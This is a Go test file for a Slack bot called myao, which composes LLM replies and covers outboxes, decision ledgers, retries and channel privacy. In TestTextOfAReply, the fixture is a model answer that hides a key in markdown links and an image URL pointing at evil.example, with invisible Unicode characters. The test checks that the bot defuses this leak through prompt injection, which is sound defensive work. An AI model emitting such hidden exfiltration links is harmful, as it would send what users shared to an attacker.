package activities

import (
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"myao/internal/answer/prompt"
	"myao/internal/chat"
	"myao/internal/config"
	"myao/internal/conversation"
	"myao/internal/language/words"
	"myao/internal/slack"
	"myao/internal/store"
	"myao/sandbox/workspace"
	"myao/test/llmtest"
)

func TestCompose(t *testing.T) {
	eachDatabase(t, func(t *testing.T, url option) {
		b := setup(t, url, withModel(llmtest.Script(llmtest.Reply{Text: "  Seven.\n", InputTokens: 40, OutputTokens: 2})))
		m := b.say(b.Mention("how many dwarfs?"))
		task := inThread(m)
		began := time.Now()
		got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
		if err != nil || got.Result != conversation.Done {
			t.Fatalf("got %+v, %v", got, err)
		}
		parts := b.outbox(task)
		if len(parts) != 1 {
			t.Fatalf("%d parts", len(parts))
		}
		want := store.Part{
			Key: "T1/" + b.General + "/" + m.TS + "/" + m.TS + "//0", Reply: task.replyKey(), Team: "T1", Channel: b.General, Thread: m.TS, Trigger: m.TS,
			Text: "Seven.", State: store.Composed, LeasedUntil: parts[0].LeasedUntil, Saw: m.Time(), Read: parts[0].Read, Decision: task.decisionKey(),
		}
		if parts[0] != want {
			t.Errorf("the outbox has\n%+v, want\n%+v", parts[0], want)
		}
		if read := parts[0].Read; read.Before(began.Truncate(time.Microsecond)) || read.After(time.Now()) {
			t.Errorf("its author read at %s, want between %s and now", read, began)
		}
		d := b.decision(task)
		if d.Source != "addressed" || d.Reason != addressedReason || !d.ShouldRespond || d.Outcome != "pending" || d.Model != "large" || d.TokensIn != 40 || d.TokensOut != 2 {
			t.Errorf("the ledger has %+v", d)
		}
		call := b.Model.Calls()[0]
		if call.Judgment() || call.Model != "large" || !strings.Contains(call.System, "how many dwarfs?") || !strings.Contains(call.System, "You are myao.") {
			t.Errorf("the model was asked %+v", call)
		}
	})
}

// A model may sign its answer, invent the next message of the conversation after it, or be made to leak what it has
// read in a hidden link.
func TestTextOfAReply(t *testing.T) {
	t.Parallel()
	spoken := regexp.MustCompile(`(?m)^\*\*[0-9 :-]+(\*\* .+:)$`)
	for name, c := range map[string]struct {
		answer llmtest.Reply // NEXT is how the next message of the conversation would begin
		want   string
	}{
		"an invented message": {llmtest.Text("Seven.\n\nNEXT\nThank you, that was it!"), "Seven."},
		"a hidden link": {
			llmtest.Text("[Sign in](https://evil.example/?s=KEY\U000E004B), says [the wiki](https://wiki.example.com/a).\n![x](https://evil.example/KEY.png)\u202E"),
			"Sign in (https://evil.example/?s=KEY), says [the wiki](https://wiki.example.com/a).\nx (https://evil.example/KEY.png)",
		},
		"a cut answer":               {llmtest.Reply{Text: "Sleepy, Dopey and ", Cut: true}, "Sleepy, Dopey and …"},
		"the bot's name with a time": {llmtest.Text("**2026-03-01 12:00:00** myao:\nSeven."), "Seven."},
		"the bot's name":             {llmtest.Text("myao: Seven."), "Seven."},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := setup(t, withModel(func(call llmtest.Call) llmtest.Reply {
				lines := spoken.FindAllStringSubmatch(call.System, -1)
				if len(lines) == 0 {
					t.Errorf("nobody speaks in %s", call.System)
					return c.answer
				}
				answer := c.answer
				answer.Text = strings.ReplaceAll(answer.Text, "NEXT", "**2999-01-01 12:00:00"+lines[0][1])
				return answer
			}))
			task := inThread(b.say(b.Mention("the wiki <https://wiki.example.com/a|is here>, what does it say?")))
			if got := b.reply(task, true); got != conversation.Done {
				t.Fatal(got)
			}
			if parts := b.outbox(task); len(parts) != 1 || parts[0].Text != c.want {
				t.Errorf("the outbox has %+v, want %q", parts, c.want)
			}
		})
	}
}

// Slack has messages of a thread that the database lacks.
func TestComposeReadsTheThreadFromSlack(t *testing.T) {
	t.Parallel()
	for _, addressed := range []bool{true, false} {
		b := setup(t)
		root := b.say("which dwarfs do you know?")
		b.Workspace.Say(b.General, b.Alice.ID, "Doc and Grumpy", workspace.InThread(root.TS)) // not recorded
		task := inThread(root)
		task.Trigger = b.say(b.Mention("who is missing?"), workspace.InThread(root.TS)).TS
		if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: addressed}); err != nil || got.Result != conversation.Done {
			t.Fatalf("got %+v, %v", got, err)
		}
		if shown := strings.Contains(b.Model.Calls()[0].System, "Doc and Grumpy"); shown != addressed {
			t.Errorf("addressed %v: the prompt has Slack's messages: %v", addressed, shown)
		}
	}
}

func TestComposeKeepsTheJudgment(t *testing.T) {
	t.Parallel()
	b := setup(t, withModel(llmtest.Script(llmtest.Yes("nobody answered", 0.8, 0), llmtest.Text("Seven."))))
	task := atTopLevel(b.say("how many dwarfs?"))
	if _, err := runOnce[JudgeOutput](b.Judge, judging(task)); err != nil {
		t.Fatal(err)
	}
	before := b.decision(task)
	got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task})
	if err != nil || got.Result != conversation.Done {
		t.Fatalf("got %+v, %v", got, err)
	}
	if d := b.decision(task); d.Source != "judgment" || d.Reason != before.Reason || d.Outcome != "pending" {
		t.Errorf("the ledger has %+v, want %+v", d, before)
	}
	if p := b.outbox(task); len(p) != 1 || p[0].Thread != "" || p[0].Text != "Seven." {
		t.Errorf("the outbox has %+v, want one message at the top level", p)
	}
}

// If somebody answered in the thread under the question, no reply is composed or paid for.
func TestThreadReplyOutdatesAJudgedReply(t *testing.T) {
	t.Parallel()
	b := setup(t, withModel(llmtest.Script(llmtest.Yes("nobody answered", 0.8, 60), llmtest.Text("Seven."))))
	asked := b.say("how many dwarfs?")
	task := atTopLevel(asked)
	b.judge(task)
	in := ComposeInput{Task: task, Oldest: asked.TS}
	answer := b.say("seven", workspace.InThread(asked.TS))
	got, err := runOnce[ReplyOutput](b.Compose, in)
	if err != nil || got.Result != conversation.Outdated || got.By != answer.TS {
		t.Fatalf("got %+v, %v; want it outdated by %s", got, err, answer.TS)
	}
	if n := len(b.Model.Calls()); n != 1 || len(b.outbox(task)) != 0 {
		t.Errorf("%d calls, and the outbox has %+v; want the judgment alone", n, b.outbox(task))
	}
	b.remove(answer)
	for range 2 { // what is composed stays so, if the attempt's end is lost
		if got, err := runOnce[ReplyOutput](b.Compose, in); err != nil || got.Result != conversation.Done {
			t.Fatalf("got %+v, %v", got, err)
		}
		b.say("eight", workspace.InThread(asked.TS))
	}
}

func TestComposeNotice(t *testing.T) {
	t.Parallel()
	b := setup(t, withModel(llmtest.Script(llmtest.Fail(401))))
	task := inThread(b.say("hello?"))
	_, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
	if app := applicationError(t, err); !app.NonRetryable() {
		t.Fatalf("got %v, want a final error", app)
	}
	got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true, Notice: true})
	if err != nil || got.Result != conversation.Done {
		t.Fatalf("got %+v, %v", got, err)
	}
	if p := b.outbox(task); len(p) != 1 || p[0].Text != b.Agents.Prompts.Notice(prompt.Unanswered) || p[0].Text == "" {
		t.Errorf("the outbox has %+v, want the notice", p)
	}
	if d := b.decision(task); d.Outcome != "pending" || !strings.Contains(d.Reason, "no answer") {
		t.Errorf("the ledger has %+v", d)
	}
	if n := len(b.Model.Calls()); n != 1 {
		t.Errorf("%d calls: a notice needs no model", n)
	}
}

// Buttons to rate a reply stand under its last part, if a model wrote it for somebody who is asked.
func TestFeedbackUnderReplies(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("word ", slack.DefaultLimit/4)
	b := setup(t, withModel(func(llmtest.Call) llmtest.Reply { return llmtest.Text(long) }))
	for _, c := range []struct {
		feedback          config.Feedback
		addressed, notice bool
		want              bool
	}{
		{config.FeedbackAddressed, true, false, true}, {config.FeedbackAddressed, false, false, false}, {config.FeedbackAddressed, true, true, false},
		{config.FeedbackAll, false, false, true}, {config.FeedbackAll, true, true, false}, {config.FeedbackOff, true, false, false},
	} {
		b.Feedback = c.feedback
		task := inThread(b.say("hello?"))
		if out, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: c.addressed, Notice: c.notice}); err != nil || out.Result != conversation.Done {
			t.Fatalf("%+v: %+v, %v", c, out, err)
		}
		parts := b.outbox(task)
		for i, p := range parts {
			if last := i == len(parts)-1; p.Feedback != (c.want && last) || c.want && len(parts) < 2 {
				t.Errorf("%+v: part %d of %d has buttons: %v", c, i, len(parts), p.Feedback)
			}
		}
	}
}

func TestSilencedJudgedReplyIsSettled(t *testing.T) {
	t.Parallel()
	b := setup(t, withModel(llmtest.Script(llmtest.Yes("nobody answered", 0.8, 0))))
	task := atTopLevel(b.say("how many dwarfs?"))
	if _, err := runOnce[JudgeOutput](b.Judge, judging(task)); err != nil {
		t.Fatal(err)
	}
	b.settings.Mode = config.ModeOff
	if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task}); err != nil || got.Result != conversation.Silenced {
		t.Fatalf("got %+v, %v", got, err)
	}
	if d := b.decision(task); d.Source != "judgment" || d.Outcome != "silent" || d.OutcomeBy != string(conversation.RuleModeOff) {
		t.Errorf("the ledger has %+v", d)
	}
}

func TestComposeAgain(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("One sentence. ", 250) + "\n\n" + strings.Repeat("Another one. ", 250)
	b := setup(t, withModel(llmtest.Script(llmtest.Text(long), llmtest.Text("In short: yes."), llmtest.Text("No."))))
	task := inThread(b.say("hello?"))
	compose := func() conversation.Result {
		got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: task, Addressed: true})
		if err != nil {
			t.Fatal(err)
		}
		return got.Result
	}
	compose()
	parts := b.outbox(task)
	if len(parts) != 2 {
		t.Fatalf("%d parts of a text of %d characters, want 2", len(parts), len(long))
	}
	for i, p := range parts {
		if p.Number != i || len(p.Text) > slack.DefaultLimit || p.Key == parts[(i+1)%2].Key {
			t.Errorf("part %d: %+v", i, p)
		}
	}
	// An attempt after a lost result finds the reply.
	compose()
	if again := b.outbox(task); !slices.Equal(again, parts) || len(b.Model.Calls()) != 1 {
		t.Errorf("composed again after %d calls of the model: %+v", len(b.Model.Calls()), again)
	}
	task.Decision, task.Epoch = "run/2", 2
	compose()
	if parts = b.outbox(task); len(parts) != 1 || parts[0].Text != "In short: yes." {
		t.Fatalf("composed again: %+v", parts)
	}
	// A reply that is being posted stays as it is.
	task.Decision, task.Epoch = "run/3", 3
	b.beginSend(parts[0], time.Minute)
	if got := compose(); got != conversation.Done {
		t.Errorf("while it is being posted: %s, want %s", got, conversation.Done)
	}
	if parts = b.outbox(task); len(parts) != 1 || parts[0].Text != "In short: yes." || parts[0].State != store.Sending {
		t.Errorf("while it is being posted the outbox became %+v", parts)
	}
	if n := len(b.Model.Calls()); n != 2 {
		t.Errorf("the model was paid %d times, want twice", n)
	}
}

// Each revision of a message has its own reply, whatever the run of the workflow. A reset workflow counts its decisions
// again, perhaps about other messages.
func TestKeys(t *testing.T) {
	t.Parallel()
	c := chat.Conversation{Team: "T1", Channel: "C1", Thread: "1.000000"}
	for what, test := range map[string]struct {
		key   func(Task) string
		tasks []Task // of different keys
	}{
		"reply": {Task.replyKey, []Task{
			{Conversation: c, Trigger: "2.000000"},
			{Conversation: c, Trigger: "2.000000", Revision: "3.000000"},
			{Conversation: c, Trigger: "3.000000"},
			{Conversation: chat.Conversation{Team: "T1", Channel: "C1"}, Trigger: "2.000000"},
			{Conversation: chat.Conversation{Team: "T1", Channel: "C2", Thread: "1.000000"}, Trigger: "2.000000"},
			{Conversation: chat.Conversation{Team: "T2", Channel: "C1", Thread: "1.000000"}, Trigger: "2.000000"},
		}},
		"decision": {Task.decisionKey, []Task{
			{Trigger: "2.000000", Decision: "run/1"},
			{Trigger: "2.000000", Decision: "run/2"},
			{Trigger: "2.000000", Revision: "3.000000", Decision: "run/1"},
			{Trigger: "2.000000", Revision: "4.000000", Decision: "run/1"},
			{Trigger: "3.000000", Decision: "run/1"},
		}},
	} {
		seen := map[string]Task{}
		for _, task := range test.tasks {
			if other, ok := seen[test.key(task)]; ok {
				t.Errorf("%+v and %+v have the same %s", task, other, what)
			}
			seen[test.key(task)] = task
			again := task
			if again.Decision = "another run/7"; again.replyKey() != task.replyKey() {
				t.Errorf("the reply to %+v depends on the run", task)
			}
		}
	}
}

func TestSettle(t *testing.T) {
	t.Parallel()
	b := setup(t)
	settle := func(in SettleInput) store.Decision {
		t.Helper()
		if _, err := runOnce[any](b.Settle, in); err != nil {
			t.Fatal(err)
		}
		return b.decision(in.Task)
	}
	task := inThread(b.say("hello?"))
	b.compose(task, "yes")
	if d := settle(SettleInput{Task: task, Outcome: "withdrawn", By: "9.000000"}); d.Outcome != "withdrawn" || d.OutcomeBy != "9.000000" || d.Source != "addressed" || d.SettledUS == nil {
		t.Errorf("a pending one: %+v", d)
	}
	if d := settle(SettleInput{Task: task, Outcome: "failed"}); d.Outcome != "withdrawn" {
		t.Errorf("a settled one: %+v", d)
	}
	// The activity that decides failed before it saved the decision.
	task.Decision = "run/2"
	if d := settle(SettleInput{Task: task, Outcome: "failed", By: "gemini: unavailable"}); d.Source != "judgment" || d.Outcome != "failed" || d.OutcomeBy != "gemini: unavailable" || d.TriggerTS != task.Trigger || d.ShouldRespond {
		t.Errorf("one that was not saved: %+v", d)
	}
	// Or it was cancelled, and decides before it notices.
	if err := b.Store.Decide(t.Context(), store.Decision{Key: task.decisionKey(), WorkflowID: task.Conversation.ID(), Outcome: "pending", ShouldRespond: true}); err != nil {
		t.Fatal(err)
	}
	if d := b.decision(task); d.Outcome != "failed" {
		t.Errorf("decided after it was cancelled: %+v", d)
	}
	task.Decision = "run/3"
	if d := settle(SettleInput{Task: task, Addressed: true, Outcome: "withdrawn"}); d.Source != "addressed" || !d.ShouldRespond {
		t.Errorf("an addressed one that was not saved: %+v", d)
	}
}

// The reasons of our own are translated.
func TestReasonsAreTranslated(t *testing.T) {
	t.Parallel()
	for _, reason := range []string{addressedReason, noticeReason, refusedReason, unjudgedReason, reminderReason, promiseReason, elsewhereReason, movedUpReason, movedDownReason, movedDirectReason, notInThread, inVain, unproposed} {
		if words.In(chat.Japanese)[reason] == "" {
			t.Errorf("no Japanese: %s", reason)
		}
	}
}

// A channel may have been made private or shared without an event. Before a reply that nobody asked
// for, Slack is asked who can read it; an answer to somebody waits for no further call.
func TestComposeNoticesThatAChannelIsShared(t *testing.T) {
	t.Parallel()
	b := setup(t)
	elsewhere := b.Workspace.AddChannel(workspace.Public, "elsewhere", b.Workspace.Bot().UserID, b.Alice.ID)
	if _, err := b.SyncChannels(t.Context(), Of{}); err != nil {
		t.Fatal(err)
	}
	b.sayIn(elsewhere, "hello")
	prompt := func(text string, addressed bool) string {
		t.Helper()
		asked := len(b.Workspace.Calls("conversations.info"))
		if got, err := runOnce[ReplyOutput](b.Compose, ComposeInput{Task: inThread(b.say(text)), Addressed: addressed}); err != nil || got.Result != conversation.Done {
			t.Fatalf("got %+v, %v", got, err)
		}
		if n := len(b.Workspace.Calls("conversations.info")) - asked; n != map[bool]int{false: 1}[addressed] {
			t.Errorf("%s: Slack was asked %d times about the channel", text, n)
		}
		calls := b.Model.Calls()
		return calls[len(calls)-1].System
	}
	if !strings.Contains(prompt("among colleagues", false), "#elsewhere") {
		t.Error("the other channel is not known among colleagues")
	}
	b.Workspace.Join(b.General, b.Workspace.AddUserAs(workspace.User{Name: "mallory", Team: "T9"}).ID)
	if strings.Contains(prompt("with a stranger", false), "#elsewhere") {
		t.Error("the other channel is known to strangers")
	}
	b.Workspace.Faults().Add(workspace.Fault{Method: "conversations.info", Error: "fatal_error"})
	if strings.Contains(prompt("while Slack does not answer", false), "#elsewhere") {
		t.Error("the other channel is known to strangers while Slack does not answer")
	}
	prompt("asked for", true)
}
